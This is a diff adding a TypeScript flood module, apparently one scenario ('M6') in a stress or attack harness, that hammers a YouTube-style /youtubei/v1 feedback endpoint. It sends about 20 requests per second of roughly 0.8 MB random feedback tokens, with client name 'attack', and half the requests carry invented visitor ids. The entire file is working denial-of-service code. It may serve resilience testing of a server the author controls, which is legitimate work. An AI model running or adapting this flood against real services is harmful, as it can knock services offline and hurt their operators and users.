@@ -1,0 +1,36 @@
+import { randomBytes } from 'node:crypto';
+import { Agent } from 'node:http';
+import { apiCalls } from '../../../shared/api-calls.ts';
+import type { Flood } from '../flood-thread.ts';
+import { post } from './post.ts';
+import { atPace } from './time.ts';
+
+const perSec = 20;
+/** Together 0.8 MB, as much as one request may hold. */
+const tokens = { count: 190, chars: 4_000 };
+
+/** M6: feedback of 0.8 MB, again and again, by viewers who are invented and by viewers without an id. */
+export const feedback: Flood = async (target) => {
+  const agent = new Agent({ keepAlive: true, maxSockets: 64 });
+  const count = { requests: 0, sentBytes: 0, statuses: {} };
+  const context = {
+    client: { clientName: 'attack', clientVersion: '1', hl: 'en' },
+    user: { enableSafetyMode: false, lockedSafetyMode: false },
+    request: {},
+    adSignalsInfo: { params: [] },
+    clickTracking: {},
+  };
+  await atPace(perSec, target.untilMs, () => {
+    const feedbackTokens = Array.from({ length: tokens.count }, () =>
+      randomBytes(tokens.chars / 2).toString('hex'),
+    );
+    const body = Buffer.from(JSON.stringify({ context, feedbackTokens }));
+    const headers = {
+      'Content-Type': 'application/json',
+      ...(count.requests % 2 === 1 && { 'X-Visitor-Id': randomBytes(16).toString('hex') }),
+    };
+    return post(target, { agent, path: `/youtubei/v1/${apiCalls.feedback.path}`, headers, body }, count);
+  });
+  agent.destroy();
+  return count;
+};
